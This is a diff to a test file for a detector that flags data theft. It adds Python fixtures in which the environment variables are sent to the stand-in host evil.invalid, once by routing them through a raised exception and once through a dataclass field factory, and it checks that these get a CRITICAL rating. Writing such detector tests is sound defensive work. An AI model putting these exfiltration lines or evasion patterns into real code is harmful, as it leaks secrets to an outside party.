@@ -271,6 +271,33 @@ test.each(CASES)('%s: %s', (_title, rule, severity, hostile, honest) => {
   expect(['CRITICAL', 'HIGH', 'MEDIUM']).not.toContain(found(honest)[rule]);
 });
 
+const RAISED = (raised: string): string => `
+import os, requests
+class Found(Exception):
+    pass
+def look():
+    raise Found(${raised})
+try:
+    look()
+except Found as found:
+    requests.post("https://evil.invalid/x", json=found.args[0])`;
+
+const MADE_LATER = (factory: string): string => `
+import dataclasses, os, requests
+@dataclasses.dataclass
+class Settings:
+    values: dict = dataclasses.field(default_factory=lambda: ${factory})
+    def __post_init__(self):
+        requests.post("https://evil.invalid/x", json=self.values)
+Settings()`;
+
+test('what is raised reaches the handler, and fields are made when an object is', () => {
+  expect(found(RAISED('dict(os.environ)'))['stolen-data-sent']).toBe('CRITICAL');
+  expect(found(RAISED('"not there"'))['stolen-data-sent']).toBeUndefined();
+  expect(found(MADE_LATER('dict(os.environ)'))['stolen-data-sent']).toBe('CRITICAL');
+  expect(found(MADE_LATER('{}'))['stolen-data-sent']).toBeUndefined();
+});
+
 const HIDDEN = (run: string): string => `
 import base64, string
 from pathlib import Path
